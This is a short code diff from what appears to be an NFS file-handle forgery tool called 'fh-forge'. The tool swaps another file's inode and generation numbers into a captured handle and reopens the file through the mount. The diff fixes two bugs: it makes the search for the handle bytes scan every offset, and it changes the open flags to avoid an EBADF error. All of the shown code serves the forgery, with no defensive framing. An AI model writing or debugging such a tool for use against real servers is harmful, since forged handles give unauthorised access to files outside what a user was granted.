@@ -89,7 +89,9 @@ int main(int argc, char** argv) {
     std::memcpy(repl, &to.ino, 4);
     std::memcpy(repl + 4, &to.gen, 4);
     size_t found = 0, at = 0;
-    for (size_t off = 0; off + 8 <= fh->handle_bytes; off += 4) {
+    // Every byte offset: the server's handle starts 2 bytes into a word
+    // (struct nfs_fh begins with a 16-bit size).
+    for (size_t off = 0; off + 8 <= fh->handle_bytes; ++off) {
       if (std::memcmp(fh->f_handle + off, want, 8) == 0) {
         ++found;
         at = off;
@@ -111,7 +113,8 @@ int main(int argc, char** argv) {
   }
   std::fprintf(stderr, "fh-forge: forged:                 %s\n",
                Hex(fh->f_handle, fh->handle_bytes).c_str());
-  int mount_fd = open(path, O_PATH | O_CLOEXEC);
+  // Not O_PATH: open_by_handle_at takes no O_PATH descriptor (EBADF).
+  int mount_fd = open(path, O_RDONLY | O_CLOEXEC);
   if (mount_fd < 0) {
     std::fprintf(stderr, "fh-forge: open %s: %s\n", path, std::strerror(errno));
     return 2;
